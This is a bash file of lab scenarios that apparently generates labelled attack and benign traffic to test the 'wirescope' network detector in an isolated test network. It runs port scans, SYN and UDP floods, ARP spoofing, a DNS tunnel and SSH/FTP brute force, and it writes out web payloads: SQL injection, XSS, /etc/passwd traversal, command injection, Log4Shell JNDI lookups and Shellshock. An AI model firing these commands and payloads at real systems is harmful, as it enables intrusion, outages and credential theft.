# shellcheck shell=bash
# wirescope lab scenarios. Each sc_NAME function builds its topology, starts
# the capture, runs the tools, records truth rows and checks the capture.
# It sets SC_KIND (attack|benign) and SC_TOOL (main command line).
# Sourced by run.sh after lib.sh; OUT and LAB_SCENARIO are set there.

V=198.18.0.10   # victim / server
A=198.18.0.66   # attacker
C=198.18.0.20   # benign client
GW=198.18.0.1   # gateway (arp_spoof)
V6=fd00::10

SCENARIOS_ATTACK=(nmap_syn nmap_connect nmap_fin nmap_xmas nmap_null nmap_udp nmap_slow
    host_sweep masscan syn_flood ddos_spoofed udp_flood icmp_flood ddos_multi arp_spoof
    dns_tunnel brute_ssh brute_ftp web_attack slowloris beacon)
SCENARIOS_BENIGN=(benign_web benign_dns benign_ssh benign_iperf benign_ping)

# topo NAME:OCTET... : switch plus hosts.
topo() {
    local spec
    lab_switch
    for spec in "$@"; do lab_host "${spec%%:*}" "${spec##*:}"; done
}

cap_start() { lab_capture_start "$OUT/$LAB_SCENARIO.pcap"; }
cap_stop() { lab_capture_stop; }

# ---------------------------------------------------------------- scans

# scan_victim: victim with nginx (80) and sshd (22), attacker.
scan_victim() {
    topo victim:10 attacker:66
    lab_nginx victim
    lab_sshd victim 10
}

# nmap_scan NOTE NMAP-ARGS... (target appended)
nmap_scan() {
    local note=$1
    shift
    SC_KIND=attack
    lab_need nmap
    scan_victim
    cap_start
    SC_TOOL=$(lab_quote nmap "$@" "$V")
    lab_cmd attacker timeout -k 5 120 nmap "$@" "$V" || lab_die "nmap failed"
    # The class names the detector and the kind the alert must carry.
    local kind
    case " $* " in
    *" -sS "*) kind=syn_scan ;;
    *" -sT "*) kind=connect_scan ;;
    *" -sF "*) kind=fin_scan ;;
    *" -sX "*) kind=xmas_scan ;;
    *" -sN "*) kind=null_scan ;;
    *) lab_die "nmap_scan: no known scan type in: $*" ;;
    esac
    lab_truth_add "port_scan:$kind" "$A" "$V" "$LAB_T0" "$LAB_T1" "$note"
    cap_stop
}

sc_nmap_syn() {
    nmap_scan "nmap -sS SYN scan, top 1000 TCP ports" -n -sS -T4 --top-ports 1000
    lab_expect 900 "SYN probes" "src host $A and tcp[tcpflags] == tcp-syn"
    lab_expect 2 "SYN-ACK from open ports" "src host $V and tcp[tcpflags] == (tcp-syn|tcp-ack)"
    lab_expect 900 "RST from closed ports" "src host $V and tcp[tcpflags] & tcp-rst != 0"
}

sc_nmap_connect() {
    nmap_scan "nmap -sT connect scan, top 1000 TCP ports" -n -sT -T4 --top-ports 1000
    lab_expect 900 "SYN probes" "src host $A and tcp[tcpflags] == tcp-syn"
    lab_expect 2 "completed handshakes (ACK to open ports)" "src host $A and tcp[tcpflags] == tcp-ack and (dst port 22 or dst port 80)"
}

sc_nmap_fin() {
    nmap_scan "nmap -sF FIN scan, top 1000 TCP ports" -n -sF -T4 --top-ports 1000
    lab_expect 900 "FIN probes" "src host $A and tcp[13] & 0x3f == 0x01"
}

sc_nmap_xmas() {
    nmap_scan "nmap -sX Xmas scan (FIN|PSH|URG), top 1000 TCP ports" -n -sX -T4 --top-ports 1000
    lab_expect 900 "FIN|PSH|URG probes" "src host $A and tcp[13] & 0x3f == 0x29"
}

sc_nmap_null() {
    nmap_scan "nmap -sN NULL scan (no flags), top 1000 TCP ports" -n -sN -T4 --top-ports 1000
    lab_expect 900 "flagless probes" "src host $A and tcp[13] & 0x3f == 0"
}

sc_nmap_udp() {
    SC_KIND=attack
    lab_need nmap
    scan_victim
    # The victim answers closed UDP ports with ICMP port unreachable without the
    # default 1/s rate limit, so the scan is quick and complete.
    lab_in victim sysctl -qw net.ipv4.icmp_ratelimit=0
    cap_start
    SC_TOOL=$(lab_quote nmap -n -sU -T4 --top-ports 50 --max-retries 1 "$V")
    lab_cmd attacker timeout -k 5 90 nmap -n -sU -T4 --top-ports 50 --max-retries 1 "$V" ||
        lab_die "nmap failed"
    lab_truth_add port_scan:udp_scan "$A" "$V" "$LAB_T0" "$LAB_T1" "nmap -sU UDP scan, top 50 UDP ports"
    cap_stop
    lab_expect 50 "UDP probes" "src host $A and udp"
    lab_expect 40 "ICMP port unreachable" "src host $V and icmp[0] == 3 and icmp[1] == 3"
}

sc_nmap_slow() {
    nmap_scan "slow nmap -sS scan, ports 1-40, 1 probe/s" -n -sS -p 1-40 --scan-delay 1s --max-retries 1
    lab_expect 40 "SYN probes" "src host $A and tcp[tcpflags] == tcp-syn"
}

sc_host_sweep() {
    SC_KIND=attack
    lab_need nmap
    topo victim:10 client:20 server:30 attacker:66
    cap_start
    SC_TOOL=$(lab_quote nmap -n -sn -T4 198.18.0.0/24)
    lab_cmd attacker timeout -k 5 60 nmap -n -sn -T4 198.18.0.0/24 || lab_die "nmap failed"
    lab_truth_add port_scan:host_sweep "$A" '*' "$LAB_T0" "$LAB_T1" "host discovery: ARP ping sweep of 198.18.0.0/24 (3 live hosts)"
    sleep 1
    lab_cmd attacker timeout -k 5 60 nmap -n -sn -PE --disable-arp-ping -T4 198.18.0.0/24 ||
        lab_die "nmap failed"
    lab_truth_add port_scan:host_sweep "$A" '*' "$LAB_T0" "$LAB_T1" "host discovery: ICMP echo sweep of 198.18.0.0/24 (3 live hosts)"
    cap_stop
    lab_expect 200 "ARP requests from the attacker" "arp and ether src $(lab_mac 66) and arp[6:2] == 1"
    lab_expect 3 "ICMP echo requests" "src host $A and icmp[0] == 8"
}

sc_masscan() {
    SC_KIND=attack
    lab_need masscan
    scan_victim
    cap_start
    local cmd=(masscan "$V" -p1-2000 --rate 2000 --wait 3 --adapter eth0 --adapter-ip "$A"
        --adapter-mac "$(lab_mac 66)" --router-mac "$(lab_mac 10)")
    SC_TOOL=$(lab_quote "${cmd[@]}")
    lab_cmd attacker timeout -k 5 60 "${cmd[@]}" || lab_die "masscan failed"
    lab_truth_add port_scan:syn_scan "$A" "$V" "$LAB_T0" "$LAB_T1" "masscan SYN scan, ports 1-2000 at 2000 pps"
    cap_stop
    lab_expect 1900 "SYN probes" "src host $A and tcp[tcpflags] == tcp-syn"
    lab_expect 2 "SYN-ACK from open ports" "src host $V and tcp[tcpflags] == (tcp-syn|tcp-ack)"
}

# ---------------------------------------------------------------- floods

# flood CLASS ATTACKER_FIELD NOTE MIN FILTER HPING-ARGS... (target appended)
flood() {
    local class=$1 att=$2 note=$3 min=$4 filter=$5
    shift 5
    SC_KIND=attack
    lab_need hping3
    topo victim:10 attacker:66
    lab_nginx victim
    cap_start
    SC_TOOL=$(lab_quote hping3 "$@" "$V")
    lab_cmd attacker timeout -k 5 30 hping3 "$@" "$V" >"$LAB_TMP/hping3.out" 2>&1
    tail -3 "$LAB_TMP/hping3.out"
    lab_truth_add "$class" "$att" "$V" "$LAB_T0" "$LAB_T1" "$note"
    cap_stop
    lab_expect "$min" "flood packets" "$filter"
}

sc_syn_flood() {
    flood syn_flood "$A" "hping3 SYN flood to 80/tcp, 20000 packets, one source" \
        15000 "src host $A and dst port 80 and tcp[tcpflags] == tcp-syn" \
        -I eth0 -n -q -S -p 80 -i u100 -c 20000
}

sc_ddos_spoofed() {
    flood ddos '*' "hping3 SYN flood to 80/tcp, 20000 packets, random spoofed sources (sent from attacker MAC $(lab_mac 66))" \
        15000 "not src net 198.18.0.0/24 and dst host $V and dst port 80 and tcp[tcpflags] == tcp-syn" \
        -I eth0 -n -q -S -p 80 --rand-source -i u100 -c 20000
}

sc_udp_flood() {
    flood udp_flood "$A" "hping3 UDP flood to 9999/udp, 20000 packets" \
        15000 "src host $A and udp dst port 9999" \
        -I eth0 -n -q --udp -p 9999 -d 64 -i u100 -c 20000
}

sc_icmp_flood() {
    flood icmp_flood "$A" "hping3 ICMP echo flood, 20000 packets" \
        15000 "src host $A and icmp[0] == 8" \
        -I eth0 -n -q --icmp -d 64 -i u100 -c 20000
}

sc_ddos_multi() {
    SC_KIND=attack
    lab_need hping3
    topo victim:10 bot1:71 bot2:72 bot3:73 bot4:74 bot5:75
    lab_nginx victim
    cap_start
    local args=(-I eth0 -n -q -S -p 80 -i u250 -c 8000 "$V") i pids=() t0 t1 srcs=()
    SC_TOOL="5x in parallel: $(lab_quote hping3 "${args[@]}")"
    t0=$(lab_now)
    for i in 1 2 3 4 5; do
        lab_truth_comment "cmd@bot$i: $(lab_quote timeout -k 5 30 hping3 "${args[@]}")"
        lab_bg "bot$i" timeout -k 5 30 hping3 "${args[@]}"
        pids+=("$LAB_LASTPID")
        srcs+=("$(lab_ip4 $((70 + i)))")
    done
    for i in "${pids[@]}"; do wait "$i"; done
    t1=$(lab_now)
    local s
    s=$(printf '%s,' "${srcs[@]}")
    lab_truth_add ddos '*' "$V" "$t0" "$t1" "5 sources (${s%,}) each send 8000 SYNs to 80/tcp at the same time"
    cap_stop
    lab_expect 30000 "SYNs to the victim" "dst host $V and dst port 80 and tcp[tcpflags] == tcp-syn"
    for s in "${srcs[@]}"; do
        lab_expect 6000 "SYNs from $s" "src host $s and tcp[tcpflags] == tcp-syn"
    done
}

# ---------------------------------------------------------------- arp / dns

sc_arp_spoof() {
    SC_KIND=attack
    lab_need arpspoof ping
    topo gateway:1 victim:10 attacker:66
    lab_nginx gateway
    cap_start
    # normal traffic victim <-> gateway before, during and after the spoof
    lab_truth_comment "bg@victim: $(lab_quote timeout 40 ping -n -c 100 -i 0.25 "$GW")"
    lab_bg victim timeout 40 ping -n -q -c 100 -i 0.25 "$GW"
    local ping_pid=$LAB_LASTPID
    lab_in victim curl -s -o /dev/null "http://$GW/"
    sleep 3
    SC_TOOL=$(lab_quote arpspoof -i eth0 -t "$V" "$GW")
    # SIGINT after 10 s: arpspoof then re-ARPs the true binding and exits
    lab_cmd attacker timeout -s INT -k 15 10 arpspoof -i eth0 -t "$V" "$GW" 2>"$LAB_TMP/arpspoof.log"
    tail -2 "$LAB_TMP/arpspoof.log"
    lab_truth_add arp_spoof "$A" "$V" "$LAB_T0" "$LAB_T1" "forged ARP replies to $V: $GW is-at $(lab_mac 66) (attacker $A); real gateway MAC $(lab_mac 1)"
    lab_in victim curl -s -o /dev/null "http://$GW/"
    sleep 3
    lab_stop "$ping_pid"
    cap_stop
    lab_expect 4 "forged ARP replies" "arp and ether src $(lab_mac 66) and arp[6:2] == 2 and arp[14:4] == 0xc6120001"
    lab_expect 1 "victim traffic for the gateway sent to the attacker MAC" "ether dst $(lab_mac 66) and dst host $GW"
}

sc_dns_tunnel() {
    SC_KIND=attack
    lab_need iodine iodined nc ping
    if [[ ! -c /dev/net/tun ]]; then
        if ! { mkdir -p /dev/net && mknod /dev/net/tun c 10 200 && chmod 666 /dev/net/tun; }; then
            lab_die "no /dev/net/tun"
        fi
    fi
    topo victim:10 attacker:66
    local dom=t.lab.example pw=wsl-tunnel-pw
    lab_truth_comment "bg@victim: $(lab_quote iodined -f -c -P "$pw" -l "$V" "$LAB_TUN4.1/27" "$dom")"
    lab_bg victim iodined -f -c -P "$pw" -l "$V" "$LAB_TUN4.1/27" "$dom" 2>"$LAB_TMP/iodined.log"
    lab_wait_listen victim udp 53 "$LAB_LASTPID"
    lab_bg victim timeout 40 nc -l 5000 >/dev/null
    cap_start
    SC_TOOL=$(lab_quote iodine -f -r -P "$pw" "$V" "$dom")
    lab_truth_comment "bg@attacker: $(lab_quote timeout 60 iodine -f -r -P "$pw" "$V" "$dom")"
    local t0 t1 n
    t0=$(lab_now)
    lab_bg attacker timeout 60 iodine -f -r -P "$pw" "$V" "$dom" 2>"$LAB_TMP/iodine.log"
    local iod=$LAB_LASTPID
    # the tunnel address is set early; the fragment size probing that follows
    # takes several seconds, so wait for the end of the setup
    for n in {1..300}; do
        grep -q 'Connection setup complete' "$LAB_TMP/iodine.log" && break
        kill -0 "$iod" 2>/dev/null || break
        sleep 0.1
    done
    grep -q 'Connection setup complete' "$LAB_TMP/iodine.log" ||
        lab_die "iodine tunnel did not come up: $(tail -3 "$LAB_TMP/iodine.log" | tr '\n' ' ')"
    lab_cmd attacker timeout 20 ping -n -q -c 30 -i 0.3 -s 400 "$LAB_TUN4.1"
    lab_truth_comment "cmd@attacker: head -c 40000 /dev/urandom | $(lab_quote timeout 25 nc -N "$LAB_TUN4.1" 5000)"
    head -c 40000 /dev/urandom | lab_in attacker timeout 25 nc -N "$LAB_TUN4.1" 5000 ||
        lab_log "nc over the tunnel did not finish (bounded by timeout)"
    lab_stop "$iod"
    t1=$(lab_now)
    lab_truth_add dns_tunnel "$A" "$V" "$t0" "$t1" "iodine client (raw mode off) tunnelling IP over DNS queries for *.$dom to iodined on $V; ping + 40 kB nc upload through the tunnel"
    cap_stop
    lab_expect 200 "DNS queries from the attacker" "src host $A and udp dst port 53"
    lab_expect 200 "DNS answers from the tunnel server" "src host $V and udp src port 53"
}

# ---------------------------------------------------------------- brute force

# 40 wrong passwords, the right one last.
wordlist() {
    local f="$LAB_TMP/passwords.txt" w
    : >"$f"
    for w in 123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon \
        123123 baseball abc123 football monkey letmein 696969 shadow master 666666 \
        qwertyuiop 123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212 \
        000000 qazwsx 123qwe killer trustno1 jordan jennifer zxcvbnm asdfgh hunter; do
        echo "$w" >>"$f"
    done
    echo "$LAB_PASS" >>"$f"
    printf '%s' "$f"
}

brute() {
    local svc=$1 min=$2
    SC_KIND=attack
    lab_need hydra
    topo victim:10 attacker:66
    if [[ $svc == ssh ]]; then lab_sshd victim 10; else lab_vsftpd victim 10; fi
    local wl port
    wl=$(wordlist)
    port=$([[ $svc == ssh ]] && echo 22 || echo 21)
    cap_start
    local cmd=(hydra -l "$LAB_USER" -P "$wl" -t 4 -I -f "$svc://$V")
    SC_TOOL=$(lab_quote "${cmd[@]}")
    lab_cmd attacker timeout -k 5 150 "${cmd[@]}" >"$LAB_TMP/hydra.out" 2>&1
    tail -4 "$LAB_TMP/hydra.out"
    grep -q "login: $LAB_USER" "$LAB_TMP/hydra.out" || lab_die "hydra did not find the password"
    lab_truth_add brute_force "$A" "$V" "$LAB_T0" "$LAB_T1" "hydra $svc ($port/tcp) login $LAB_USER, 41 passwords (correct one last), 4 tasks"
    cap_stop
    lab_expect "$min" "connections to $port/tcp" "src host $A and dst port $port and tcp[tcpflags] == tcp-syn"
}

sc_brute_ssh() { brute ssh 6; }
sc_brute_ftp() { brute ftp 10; }

# ---------------------------------------------------------------- http

sc_web_attack() {
    SC_KIND=attack
    lab_need curl
    topo victim:10 attacker:66
    lab_nginx victim
    cap_start
    local u="http://$V" c=(curl -s -o /dev/null -w '%{http_code} ' --max-time 5 -g --path-as-is)
    SC_TOOL="curl (one request per payload, see cmd lines)"
    lab_in attacker "${c[@]}" "$u/"
    sleep 0.5
    # web CATEGORY NOTE -- CURL-ARGS... [-- CURL-ARGS...]
    web() {
        local cat=$1 note=$2 t0='' a=()
        shift 2
        while (($#)); do
            [[ $1 == -- ]] && shift
            a=()
            while (($#)) && [[ $1 != -- ]]; do a+=("$1"); shift; done
            lab_cmd attacker "${c[@]}" "${a[@]}"
            [[ -n $t0 ]] || t0=$LAB_T0
            sleep 0.3
        done
        lab_truth_add "web_attack:$cat" "$A" "$V" "$t0" "$LAB_T1" "$cat: $note"
    }
    web sqli "' OR 1=1-- and UNION SELECT in query and POST body, raw and URL-encoded" \
        -- "$u/search?q='%20OR%201=1--" \
        -- "$u/search?q=%27%20OR%201%3D1--" \
        -- "$u/search?id=1%20UNION%20SELECT%20username,password%20FROM%20users--" \
        -- -d "user=admin' OR 1=1-- &pass=x" "$u/login" \
        -- -d "user=admin%27+OR+1%3D1--+&pass=x" "$u/login"
    web xss "<script>alert(1)</script> in query, raw and URL-encoded" \
        -- "$u/search?q=<script>alert(1)</script>" \
        -- "$u/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E" \
        -- "$u/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E"
    web path_traversal "../../etc/passwd in path and parameter, raw and encoded" \
        -- "$u/../../etc/passwd" \
        -- "$u/static/..%2f..%2f..%2fetc%2fpasswd" \
        -- "$u/search?file=../../../../etc/passwd" \
        -- "$u/search?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"
    web command_injection ";cat /etc/passwd and |id in a parameter, raw and encoded" \
        -- "$u/cgi-bin/status?host=198.18.0.10;cat%20/etc/passwd" \
        -- "$u/cgi-bin/status?host=198.18.0.10%3Bcat%20%2Fetc%2Fpasswd" \
        -- "$u/cgi-bin/status?host=198.18.0.10|id"
    web log4shell "\${jndi:ldap://$A/a} in User-Agent, header and URL-encoded parameter" \
        -- -A "\${jndi:ldap://$A/a}" "$u/" \
        -- -H "X-Api-Version: \${jndi:ldap://$A/a}" "$u/login" \
        -- "$u/search?q=%24%7Bjndi%3Aldap%3A%2F%2F$A%2Fa%7D"
    web shellshock "() { :; }; /bin/bash -c 'id' in User-Agent and Referer" \
        -- -A "() { :; }; /bin/bash -c 'id'" "$u/cgi-bin/status" \
        -- -H "Referer: () { :; }; /bin/bash -c 'id'" "$u/cgi-bin/status"
    echo
    cap_stop
    lab_expect 20 "HTTP requests" "src host $A and dst port 80 and tcp[tcpflags] == tcp-syn"
}

sc_slowloris() {
    SC_KIND=attack
    lab_need slowhttptest
    topo victim:10 attacker:66
    lab_nginx victim
    cap_start
    local cmd=(slowhttptest -c 200 -H -i 10 -r 50 -l 30 -u "http://$V/")
    SC_TOOL=$(lab_quote "${cmd[@]}")
    lab_cmd attacker timeout -k 5 50 "${cmd[@]}" >"$LAB_TMP/slowhttptest.out" 2>&1
    grep -E 'exit status|connected:|closed:' "$LAB_TMP/slowhttptest.out" | tail -4
    lab_truth_add slowloris "$A" "$V" "$LAB_T0" "$LAB_T1" "slowhttptest slow headers: 200 connections at 50/s, one header line each 10 s, 30 s"
    cap_stop
    lab_expect 150 "connections to 80/tcp" "src host $A and dst port 80 and tcp[tcpflags] == tcp-syn"
}

sc_beacon() {
    SC_KIND=attack
    lab_need curl
    topo victim:10 attacker:66
    lab_nginx victim
    cap_start
    local loop="for i in \$(seq 1 32); do curl -s -o /dev/null --max-time 2 \"http://$V/beacon?id=wsl-\$i\"; sleep \$(awk -v r=\$RANDOM 'BEGIN{printf \"%.2f\", 9 + (r % 201) / 100}'); done"
    SC_TOOL=$(lab_quote bash -c "$loop")
    lab_cmd attacker timeout -k 5 420 bash -c "$loop" || lab_die "beacon loop failed"
    lab_truth_add beacon "$A" "$V" "$LAB_T0" "$LAB_T1" "32 HTTP GET /beacon, one new connection every 10 s +-1 s (the beacon detector needs 300 s of history)"
    cap_stop
    lab_expect 32 "beacon connections" "src host $A and dst port 80 and tcp[tcpflags] == tcp-syn"
}

# ---------------------------------------------------------------- benign

sc_benign_web() {
    SC_KIND=benign
    lab_need curl wget
    topo server:10 client:20
    lab_nginx server
    cap_start
    local u="http://$V"
    SC_TOOL=$(lab_quote curl -s -o /dev/null "$u/" "$u/about.html" "$u/static/style.css" "$u/static/app.js")
    lab_cmd client curl -s -o /dev/null -o /dev/null -o /dev/null -o /dev/null \
        "$u/" "$u/about.html" "$u/static/style.css" "$u/static/app.js"
    sleep 0.5
    lab_cmd client wget -q -O /dev/null "$u/static/blob.bin"
    sleep 0.5
    lab_cmd client curl -s -o /dev/null -w '%{http_code}\n' "$u/missing.html"
    lab_cmd client curl -s -o /dev/null -w '%{http_code}\n' "$u/favicon.ico"
    sleep 0.5
    lab_cmd client wget -q -r -l 1 -P "$LAB_TMP/mirror" "$u/"
    lab_cmd client curl -s -o /dev/null -g "http://[$V6]/static/numbers.txt"
    lab_cmd client curl -s -o /dev/null -H 'Accept-Encoding: gzip' "$u/static/numbers.txt" "$u/index.html"
    lab_cmd client wget -q -O /dev/null "$u/does/not/exist"
    cap_stop
    lab_expect 7 "HTTP connections" "src host $C and dst port 80 and tcp[tcpflags] == tcp-syn"
}

sc_benign_dns() {
    SC_KIND=benign
    lab_need dnsmasq dig
    topo server:10 client:20
    local d="$LAB_TMP/dnsmasq" cmd
    mkdir -p "$d"
    # shellcheck disable=SC2054 # the commas belong to dnsmasq's option values
    cmd=(dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --no-poll --bind-interfaces
        --listen-address="$V" --listen-address="$V6" --pid-file="$d/pid" --user=root
        --local=/lab.example/ --domain=lab.example
        --host-record=www.lab.example,198.18.0.10,fd00::10
        --host-record=mail.lab.example,198.18.0.11,fd00::11
        --host-record=files.lab.example,198.18.0.12
        --host-record=ns.lab.example,198.18.0.10
        --cname=web.lab.example,www.lab.example
        --mx-host=lab.example,mail.lab.example,10
        --txt-record=lab.example,"v=spf1 mx -all"
        --txt-record=_info.lab.example,"wirescope lab"
        --log-queries --log-facility="$d/log")
    lab_truth_comment "bg@server: $(lab_quote "${cmd[@]}")"
    lab_bg server "${cmd[@]}"
    lab_wait_listen server udp 53 "$LAB_LASTPID"
    cap_start
    SC_TOOL=$(lab_quote dig @"$V" +tries=1 +time=2 NAME TYPE)
    local q n=0 round
    for round in 1 2 3; do
        for q in "www.lab.example A" "www.lab.example AAAA" "mail.lab.example A" "lab.example MX" \
            "lab.example TXT" "web.lab.example A" "files.lab.example A" "_info.lab.example TXT" \
            "nope.lab.example A" "10.0.18.198.in-addr.arpa PTR"; do
            n=$((n + 1))
            # every third query goes over IPv6; $q is "NAME TYPE"
            # shellcheck disable=SC2086
            if ((n % 3 == 0)); then
                lab_cmd client dig @"$V6" +tries=1 +time=2 +short $q
            else
                lab_cmd client dig @"$V" +tries=1 +time=2 +short $q
            fi
            sleep 0.2
        done
    done
    cap_stop
    lab_expect 30 "DNS queries" "udp dst port 53"
    lab_expect 30 "DNS answers" "udp src port 53"
}

sc_benign_ssh() {
    SC_KIND=benign
    lab_need ssh scp sshpass
    topo server:10 client:20
    lab_sshd server 10
    local o=(-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null
        -o PubkeyAuthentication=no -o LogLevel=ERROR -o ConnectTimeout=5)
    local f="$LAB_TMP/upload.bin" rf="wslab-scp-$$.bin"
    head -c 100000 /dev/urandom >"$f"
    cap_start
    SC_TOOL=$(lab_quote sshpass -p "$LAB_PASS" ssh "${o[@]}" "$LAB_USER@$V" 'uname -a; id')
    lab_cmd client timeout 30 sshpass -p "$LAB_PASS" ssh "${o[@]}" "$LAB_USER@$V" 'uname -a; id' ||
        lab_die "ssh session failed"
    sleep 0.5
    lab_cmd client timeout 30 sshpass -p "$LAB_PASS" scp "${o[@]}" "$f" "$LAB_USER@$V:$rf" ||
        lab_die "scp upload failed"
    sleep 0.5
    lab_cmd client timeout 30 sshpass -p "$LAB_PASS" scp "${o[@]}" "$LAB_USER@$V:$rf" "$LAB_TMP/down.bin" ||
        lab_die "scp download failed"
    cmp -s "$f" "$LAB_TMP/down.bin" || lab_die "scp round trip corrupted the file"
    sleep 0.5
    lab_cmd client timeout 30 sshpass -p "$LAB_PASS" ssh "${o[@]}" "$LAB_USER@$V6" "ls -l $rf; rm -f $rf" ||
        lab_die "ssh over IPv6 failed"
    cap_stop
    lab_expect 4 "SSH sessions" "dst port 22 and (tcp[tcpflags] == tcp-syn or ip6[53] == 2)"
}

sc_benign_iperf() {
    SC_KIND=benign
    lab_need iperf3
    topo server:10 client:20
    lab_truth_comment "bg@server: $(lab_quote iperf3 -s -B "$V")"
    lab_bg server iperf3 -s -B "$V"
    lab_wait_listen server tcp 5201 "$LAB_LASTPID"
    cap_start
    SC_TOOL=$(lab_quote iperf3 -c "$V" -t 5 -b 50M)
    lab_cmd client timeout 20 iperf3 -c "$V" -t 5 -b 50M >"$LAB_TMP/iperf.out" || lab_die "iperf3 TCP failed"
    tail -4 "$LAB_TMP/iperf.out"
    sleep 0.5
    lab_cmd client timeout 20 iperf3 -c "$V" -u -t 5 -b 50M >"$LAB_TMP/iperf.out" || lab_die "iperf3 UDP failed"
    tail -4 "$LAB_TMP/iperf.out"
    cap_stop
    lab_expect 10000 "TCP data segments" "src host $C and tcp dst port 5201 and greater 1000"
    lab_expect 10000 "UDP datagrams" "src host $C and udp dst port 5201"
}

sc_benign_ping() {
    SC_KIND=benign
    lab_need ping
    topo server:10 client:20
    cap_start
    SC_TOOL=$(lab_quote ping -n -c 20 -i 0.2 "$V")
    lab_cmd client ping -n -q -c 20 -i 0.2 "$V" || lab_die "ping failed"
    lab_cmd client ping -n -q -6 -c 20 -i 0.2 "$V6" || lab_die "ping -6 failed"
    lab_cmd server ping -n -q -c 5 -i 0.2 "$C" || lab_die "ping failed"
    cap_stop
    lab_expect 25 "ICMP echo requests" "icmp[0] == 8"
    lab_expect 20 "ICMPv6 echo requests" "icmp6 and ip6[40] == 128"
}
